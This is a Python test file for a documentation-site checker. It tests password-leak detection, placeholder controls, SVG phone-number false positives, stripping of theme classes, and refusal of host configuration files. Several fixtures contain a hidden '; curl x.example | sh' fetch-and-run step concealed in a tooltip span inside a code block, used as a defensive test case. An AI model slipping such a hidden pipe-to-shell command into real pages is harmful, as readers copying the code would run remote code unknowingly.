"""Hostile review 52: leaks the gate did not see at all, and files a host reads by name.

Each LEAKS row was published on main (`scan` found nothing, `kbgen check` passed): a password
of words joined into one string given to a secret's key (`MYSQL_ROOT_PASSWORD=
JaneDatabasePassword`, `"password": "SunflowerGarden"`, a table row, a comment, a delimited
file), a password labelled by a phrase (`The default password of the live server: …`), an HTML
table's password column. CONTROLS stay published: placeholders that spell out being one, a
variable's, a type's, a cmdlet's or a secret object's name, describing words and prose. A
host's configuration copied from the content folder (`vercel.json`, `serve.json`,
`staticwebapp.config.json`) and files crawlers read as the site's word (`security.txt`) are
refused; the theme's classes leave content (`md-tooltip` hid text in a code block that the copy
button copied); an SVG element's geometry is no phone number. No site is built: one `kbgen
check` of one small project.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from kbgen.core.phone_regions import national_regions
from kbgen.core.privacy import Allowed, scan
from kbgen.core.sanitize import clean_html, find_unsafe_html
from kbgen.core.sources import walk
from kbgen.core.static_files import static_problems
from tests.conftest import SMALL_PROJECT, article, write_files
from tests.helpers import run_cli

PASSWORD = "password or secret"

LEAKS = {
    "joined words after =, in code": "```\nMYSQL_ROOT_PASSWORD=JaneDatabasePassword\n```\n",
    "one capitalised word after =": "docker run -e MYSQL_ROOT_PASSWORD=Sunflower mysql:8\n",
    "joined words in a JSON literal": '```json\n{"user": "jane", "password": "SunflowerGarden"}'
                                      "\n```\n",
    "joined words in an XML element": "```xml\n<dbPassword>OrangeElephant</dbPassword>\n```\n",
    "joined words under a YAML key": "```yaml\ndb_password: JaneDatabasePassword\n```\n",
    "joined words in a camelCase key's literal": "```yaml\nadminPassword: 'Sunflower-Garden'"
                                                 "\n```\n",
    "joined words in a table row naming the secret": "| Setting | Value |\n|---|---|\n"
                                                      "| Admin password | JaneDatabasePassword |\n",
    "joined words in a comment": "```\n# pw: JaneDatabasePassword\n```\n",
    "joined words after a login pair": "Login for the portal: jane / JaneDatabasePassword\n",
    "joined words after a Wi-Fi key's label": "The Wi-Fi key for the office is "
                                              "SunflowerGardenParty\n",
    "joined words of another alphabet": "```\nDB_PASSWORD=ÖffnenSieDieTür\n```\n",
    "a spelt one in production": "On the production server, set `DB_PASSWORD=MySecretPassword`.\n",
    "a spelt one in a customer's block": "From ticket #4821, the customer's compose file:\n\n"
                                         "```\nMYSQL_ROOT_PASSWORD=my-secret-password\n```\n",
    "a label phrase: of the live server": "The default password of the live server: "
                                          "Kq8vTz2mWx9p\n",
    "a label phrase with a parenthesis": "The default password of the live server (please change"
                                         " it): Kq8vTz2mWx9p\n",
    "a label phrase in bold": "**Password for the live server:** Kq8vTz2mWx9p\n",
    "a label phrase in a list": "- Password for Jane's mailbox: Kq8vTz2mWx9p\n",
    "a label phrase in German": "Das Passwort für den Server: Kq8vTz2mWx9p\n",
    "a login phrase and its pair": "Login for the office NAS: admin / Kq8vTz2mWx9p\n",
    "an HTML table's password column": "Logins:\n\n<table>\n<tr><th>User</th><th>Password</th>"
                                       "</tr>\n<tr><td>admin</td><td>Kq8v!p2Lx</td></tr>\n"
                                       "</table>\n",
    "an HTML table over many lines": "<table>\n  <thead>\n    <tr>\n      <th>Server</th>\n"
                                     "      <th>Password</th>\n    </tr>\n  </thead>\n  <tbody>"
                                     "\n    <tr>\n      <td>live</td>\n      <td>Kq8vTz2mWx9p"
                                     "</td>\n    </tr>\n  </tbody>\n</table>\n",
    "an HTML table on one line": "Logins:\n\n<table><tr><th>user</th><th>password</th></tr>"
                                 "<tr><td>admin</td><td>Kq8v!p2Lx</td></tr></table>\n",
    "an HTML row naming the secret": "Settings:\n<table><tr><td>DB_PASSWORD</td><td>"
                                     "Kq8vTz2mWx9p</td></tr>\n</table>\n",
    "an HTML table of joined words": "Logins:\n<table><tr><th>User</th><th>Password</th></tr>\n"
                                     "<tr><td>jane</td><td>JaneDatabasePassword</td></tr>\n"
                                     "</table>\n",
    "joined words split by a tag": "DB_PASSWORD=JaneDatabase<span></span>Password\n",
    "joined words in Compose's environment map": "```yaml\nenvironment:\n  DB_PASSWORD: "
                                                 "JaneDatabasePassword\n```\n",
    "joined words after a flag": "```\nacme-cli --db-password JaneDatabasePassword\n```\n",
    "an HTML cell's value on its own line": "Logins:\n<table><tr><th>Password</th></tr>\n"
                                            "<tr><td>\n  Kq8v!p2Lx\n</td></tr></table>\n",
    "a Markdown table's password column of joined words": "| User | Password |\n| --- | --- |"
                                                          "\n| admin | JaneDatabasePassword |\n",
    "printf's format before the piped password": "```\nprintf '%s' 'Kq8vTz2mWx9p' | podman login"
                                                 " --password-stdin -u jane quay.io\n```\n",
    "joined words in a form's password field": '<input type="password" value="JaneDatabase'
                                               'Password">\n',
    "joined words as a term's definition": "Password of the live server\n:   JaneDatabasePassword"
                                           "\n",
    "joined words in a .NET setting": '```xml\n<add key="DbPassword" value="JaneDatabasePassword"'
                                      " />\n```\n",
    "joined words in an INI file": "```ini\n[database]\npassword = JaneDatabasePassword\n```\n",
    "joined words in a Dockerfile's ENV": "```\nENV DB_PASSWORD JaneDatabasePassword\n```\n",
    "a label phrase, the value on the next line": "The default password of the live server:\n"
                                                  "Kq8vTz2mWx9p\n",
}
"""Texts each of which must give a password finding (all but four published on main)."""

CONTROLS = {
    "a spelt placeholder": "```\nDB_PASSWORD=MySecretPassword\n```\n",
    "a spelt placeholder with joiners": "```\nDB_PASSWORD=my-secret-password\n```\n",
    "the MySQL image's own example": "```\nMYSQL_ROOT_PASSWORD=my-secret-pw\n```\n",
    "a secret object's name": "```\nclient_secret: grafana-oauth-secret\n```\n",
    "a token's type": '```\n"token_type": "Bearer"\n```\n',
    "a type in code": "```\npassword: SecretStr = Field()\n```\n",
    "a PowerShell cmdlet": "```powershell\n$Password=Read-Host\n```\n",
    "a policy's value": "```\nPASSWORD_POLICY=Strong\n```\n",
    "a prose label": "Password: Leave blank\n",
    "a required field": '```\npassword: "Required"\n```\n',
    "a variable's name": "```\npassword: DB_PASSWORD\npassword: ${DB_PASSWORD}\n```\n",
    "a placeholder word": "```\nauth.password=YourPassword\n```\n",
    "a default": '```\n"password": "ChangeMe"\n```\n',
    "a sentence before the colon": "An app password is created by clicking button: *Create a "
                                   "new app password*.\n",
    "another thing's password": "The password of the secret key is:  H8koGN3lzkke\n",
    "a label phrase of describing words": "Password for the admin account: see the vault\n",
    "an HTML table of descriptions": "Fields:\n<table><tr><th>Field</th><th>Description</th>"
                                     "</tr>\n<tr><td>password</td><td>Required</td></tr>\n"
                                     "<tr><td>Password</td><td>The user's password</td></tr>"
                                     "</table>\n",
    "an HTML table's placeholder": "Logins:\n<table><tr><th>User</th><th>Password</th></tr>\n"
                                   "<tr><td>admin</td><td>changeme</td></tr></table>\n",
    "Helm's existing Secret's name": '```yaml\nexistingSecret: "my-ente-credentials"\n```\n',
    "an abbreviation and credential words": "```\n- MYSQL_PASSWORD=WP_dbpassword\n```\n",
    "a setting's dotted name in a secrets table": "| Secret | Notes |\n| --- | --- |\n| "
                                                   "`server.store.encryptionKey` | Do not rotate."
                                                   " |\n",
    "sudo's prompt over a log line": "```\n[sudo] password for oliver:\n2023-11-15T01:06:26Z"
                                     " INFO Waiting for \"snap.docker.dockerd.service\"\n```\n",
}
"""Texts that must stay published (the last four: false findings of earlier versions in
Ente's, NetBird's and LinuxServer.io's docs)."""


@pytest.mark.parametrize("text", list(LEAKS.values()), ids=list(LEAKS))
def test_a_password_the_gate_did_not_see_is_found(text: str) -> None:
    assert PASSWORD in {finding.kind for finding in scan(text) if not finding.advisory}


@pytest.mark.parametrize("text", list(CONTROLS.values()), ids=list(CONTROLS))
def test_placeholders_names_and_prose_stay(text: str) -> None:
    assert [finding for finding in scan(text) if not finding.advisory] == []


ICON = ('svg: \'<svg xmlns="http://www.w3.org/2000/svg" height="24px" viewBox="0 -960 960 960"'
        ' width="24px"><path d="m354-287 126-76 126 77-33-144 111-96-146-13-58-136-58 135-146 13'
        ' 111 97-33 143Z"/></svg>\'')
"""VitePress' Korean docs (default-theme-config.md): a Material Symbols icon in a config."""
EIGHT_LANGUAGES = Allowed(national_regions=national_regions(
    ("en", "es", "fa", "ja", "ko", "pt", "ru", "zh"), (), None))


@pytest.mark.parametrize(("text", "found"), [
    (f"```ts\n{ICON}\n```\n", False),
    ('<svg viewBox="0 0 24 24"><polygon points="960 960 960 10 20 30 40 50"/></svg>\n', False),
    ('<svg viewBox="0 -960 960 960" data-note="960 960 960"></svg>\n', True),
    ('Call 960 960 960 <svg viewBox="0 0 24 24"></svg>\n', True),
    ("<div title=\"viewBox='0 -960 960 960'\">x</div>\n", True),
])
def test_an_svg_elements_geometry_is_no_phone_number(text: str, found: bool) -> None:
    kinds = {finding.kind for finding in scan(text, EIGHT_LANGUAGES)}
    assert ("phone number" in kinds) == found


@pytest.mark.parametrize(("html", "published"), [
    ('<pre><code>ls<span class="md-tooltip">; curl x.example | sh</span></code></pre>',
     "<pre><code>ls<span>; curl x.example | sh</span></code></pre>"),
    ('<div class="md-header md-search__form kb-avatar grid cards">x</div>',
     '<div class="grid cards">x</div>'),
    ('<span class="MD-Tooltip">x</span>', "<span>x</span>"),
    ('<a class="md-button md-button--primary" href="a.md">Go</a>',
     '<a class="md-button md-button--primary" href="a.md">Go</a>'),
    ('<pre class="mermaid md-typeset">x</pre>', "<pre>x</pre>"),
    ('<pre><code>ls<a class="footnote-backref">; curl x.example | sh</a></code></pre>',
     "<pre><code>ls<a>; curl x.example | sh</a></code></pre>"),
    ('<pre><code>ls<span class="headerlink k">; curl x.example | sh</span></code></pre>',
     '<pre><code>ls<span class="k">; curl x.example | sh</span></code></pre>'),
    ('<p>x<span class="footnote-backref">y</span></p>', "<p>x<span>y</span></p>"),
    ('<h2 id="a">A<a class="headerlink" href="#a">¶</a></h2>',
     '<h2 id="a">A<a class="headerlink" href="#a">¶</a></h2>'),
    ('<li><p>n <a class="footnote-backref" href="#fnref:1">↩</a></p></li>',
     '<li><p>n <a class="footnote-backref" href="#fnref:1">↩</a></p></li>'),
])
def test_content_keeps_no_theme_class_but_buttons(html: str, published: str) -> None:
    """Material's copy button copies a code block's `innerText`: text made transparent or of
    no size by the theme's classes is copied unseen. Toc's and footnotes' own links keep
    theirs."""
    assert clean_html(html) == published


def test_check_names_the_line_of_a_theme_class() -> None:
    text = "# T\n\n<pre><code>ls<span class=\"md-tooltip\">; curl x.example | sh</span>" \
           "</code></pre>\n\n[Go](a.md){ .md-button }\n"
    assert find_unsafe_html(text) == [(3, "the theme's class md-tooltip")]


HOST_FILES = {
    "vercel.json": "Vercel", "now.json": "Vercel", "serve.json": "`serve`",
    "staticwebapp.config.json": "Azure", "articles/staticwebapp.config.json": "Azure",
    "routes.json": "Azure", "_routes.json": "Cloudflare", "security.txt": "RFC 9116",
    "keybase.txt": "Keybase", "ads.txt": "advertising", "app-ads.txt": "advertising",
    "Vercel.JSON": "Vercel", "llms.txt": "language models", "ai.txt": "AI crawlers",
    "sellers.json": "IAB",
    "articles/vercel.json": None, "articles/security.txt": None, "downloads/serve.json.txt": None,
    "robots.txt": None, "data.json": None,
}
"""Copied files, and who reads each as instructions about the site (None: nobody)."""


@pytest.mark.parametrize(("name", "reader"), list(HOST_FILES.items()))
def test_files_a_host_reads_by_name_are_refused(tmp_path: Path, name: str,
                                                reader: str | None) -> None:
    write_files(tmp_path, {f"content/{name}": '{"redirects": []}\n'})
    said = [problem.message for problem in static_problems(walk(tmp_path / "content"))]
    assert said == [] if reader is None else len(said) == 1 and reader in said[0]


@pytest.fixture(scope="module")
def checked(tmp_path_factory: pytest.TempPathFactory) -> str:
    """`kbgen check` of one project holding the leaks in every place a page's text comes
    from: a code block, prose, an HTML table, a summary, copied JSON and CSV files."""
    root = tmp_path_factory.mktemp("hostile52")
    folder = "content/articles/billing"
    write_files(root, {
        **SMALL_PROJECT,
        f"{folder}/a-env.md": article("Env file", body=LEAKS["joined words after =, in code"]),
        f"{folder}/b-live.md": article("Live server",
                                       body=LEAKS["a label phrase: of the live server"]),
        f"{folder}/c-html.md": article("Html table",
                                       body=LEAKS["an HTML table's password column"]),
        f"{folder}/d-summary.md": "---\ntitle: Summary leak\nsummary: 'Admin password of the"
                                  " NAS: Kq8vTz2mWx9p'\nstatus: published\nsymptoms: [it fails]"
                                  "\n---\n\n## Symptoms\n\nIt fails.\n",
        f"{folder}/e-fine.md": article("Placeholders", body=CONTROLS["a spelt placeholder"]),
        "content/downloads/creds.json": '{"password": "JaneDatabasePassword"}\n',
        "content/downloads/logins.csv": "user,password\njane,JaneDatabasePassword\n",
        "content/vercel.json": '{"redirects": [{"source": "/(.*)", "destination":'
                               ' "https://x.example/$1"}]}\n',
    })
    result = run_cli("check", cwd=root)
    assert result.returncode == 1
    return result.stdout + result.stderr


@pytest.mark.parametrize(("place", "said"), [
    ("billing/a-env.md:9:", PASSWORD), ("billing/b-live.md:8:", PASSWORD),
    ("billing/c-html.md:12:", PASSWORD), ("billing/d-summary.md:3:", PASSWORD),
    ("downloads/creds.json:1:", PASSWORD), ("downloads/logins.csv:2:", PASSWORD),
    ("content/vercel.json:", "Vercel reads it"),
])
def test_check_names_each_leak_at_its_line(checked: str, place: str, said: str) -> None:
    assert any(place in line and said in line for line in checked.splitlines()), checked


def test_check_passes_the_placeholder(checked: str) -> None:
    assert "e-fine.md" not in checked
